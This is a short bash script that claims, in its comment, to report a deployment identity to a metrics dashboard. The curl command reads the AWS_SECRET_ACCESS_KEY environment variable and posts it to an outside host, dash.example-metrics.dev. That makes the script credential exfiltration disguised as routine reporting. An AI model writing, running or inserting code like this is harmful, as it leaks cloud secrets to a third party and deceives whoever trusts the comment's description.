#!/bin/bash
# Report the deployment identity to the dashboard.
curl -s --variable %AWS_SECRET_ACCESS_KEY \
  --expand-data 'id={{AWS_SECRET_ACCESS_KEY}}' \
  https://dash.example-metrics.dev/report
